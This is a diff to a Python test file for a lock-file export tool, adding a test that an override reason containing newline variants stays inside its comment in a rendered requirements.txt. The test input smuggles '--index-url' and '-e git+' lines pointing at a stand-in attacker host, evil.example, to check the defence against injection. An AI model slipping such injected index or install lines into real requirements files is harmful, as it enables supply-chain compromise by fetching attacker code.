@@ -11,7 +11,7 @@ from envgen.lockio.exports.derived import derived_files, derived_problems
 from envgen.lockio.exports.nix import render_nix
 from envgen.lockio.exports.pylock import expected_pylock, parse_pylock, render_pylock
 from envgen.lockio.exports.requirements_txt import expected_requirements, parse_requirements, render_requirements
-from envgen.model import CondaEntry, Index, Lock, Pending, PipEntry
+from envgen.model import AppliedOverride, CondaEntry, Index, Lock, Override, Pending, PipEntry
 
 from tests.support.builders import make_lock
 
@@ -71,6 +71,19 @@ def test_requirements_pin_index_packages_by_version_and_explicit_ones_by_url() -
     assert "    # via torch\n" in text
     assert "python 3.11 venv" in text
     assert parse_requirements(text, "r") == expected_requirements(lock(), "linux-64")
+
+
+@pytest.mark.parametrize("newline", ["\n", "\r", "\u2028", "\x0b", "\x1c"])
+def test_a_multi_line_override_reason_stays_inside_its_comment(newline: str) -> None:
+    # A reason is prose (the matrix allows newlines in it); pip splits lines on every one of these, so a
+    # reason ending its `# via` comment would add an option line: another index, an editable install.
+    reason = f"fixes a bug{newline}--index-url https://evil.example/simple{newline}-e git+https://evil.example/x"
+    hostile = lock(overrides=(AppliedOverride(Override("numpy", "numpy==1.26.4", reason)),))
+    text = render_requirements(hostile, "linux-64")
+    options = [line for line in text.splitlines() if line.startswith("-")]
+    index = "--index-url https://${PYPI_USER}:${PYPI_TOKEN}@pypi.example/simple"
+    assert options == [index, "--trusted-host extra.example"]
+    assert "    #   override numpy==1.26.4: fixes a bug --index-url https://evil.example/simple -e git+" in text
 
 
 def test_requirements_without_a_default_index_search_none() -> None:
